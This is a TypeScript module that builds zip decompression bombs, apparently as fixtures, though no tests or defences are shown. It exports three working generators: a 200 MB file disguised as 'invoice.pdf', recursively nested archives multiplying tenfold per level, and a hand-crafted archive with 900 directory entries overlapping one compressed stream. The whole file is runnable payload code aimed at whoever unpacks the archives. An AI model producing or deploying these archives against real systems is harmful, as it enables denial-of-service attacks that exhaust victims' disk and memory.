/** Archives that attack whoever unpacks them. */
import { crc32, deflateRawSync } from 'node:zlib'
import { zipSync, type Zippable } from 'fflate'

export const zip = (files: Record<string, Uint8Array>): Buffer => Buffer.from(zipSync(files as Zippable))

/** One file of 200 MB. */
export const flatBomb = (): Buffer => zip({ 'invoice.pdf': new Uint8Array(200 * 2 ** 20) })

/** Archives in archives, each ten times the same, a petabyte at the end. */
export function nestedBomb(levels: number): Buffer {
  let inner = zip({ '0.pdf': new Uint8Array(2 ** 20) })
  for (let level = 0; level < levels; level++)
    inner = zip(Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`${n}.zip`, inner])))
  return inner
}

interface Entry {
  name: Buffer
  offset: number
  size: number
  packed: number
  crc: number
}

/** A file that 900 entries share, 10 MB each: their directory claims `claimed` bytes for each. */
export function overlappingBomb(claimed = 10 * 2 ** 20): Buffer {
  const content = Buffer.alloc(10 * 2 ** 20)
  const packed = deflateRawSync(content)
  const crc = crc32(content)
  const name = Buffer.from('shared.pdf')
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(crc, 14)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(name.length, 26)
  const entries = Array.from({ length: 900 }, (_, n) => ({
    name: Buffer.from(`${n}.pdf`),
    offset: 0,
    size: claimed,
    packed: packed.length,
    crc,
  }))
  return Buffer.concat([local, name, packed, directory(entries, 30 + name.length + packed.length)])
}

function directory(entries: Entry[], start: number): Buffer {
  const parts = entries.map(({ name, offset, size, packed, crc }) => {
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 4)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(crc, 16)
    entry.writeUInt32LE(packed, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(offset, 42)
    return Buffer.concat([entry, name])
  })
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  const length = parts.reduce((sum, part) => sum + part.length, 0)
  end.writeUInt32LE(length, 12)
  end.writeUInt32LE(start, 16)
  return Buffer.concat([...parts, end])
}
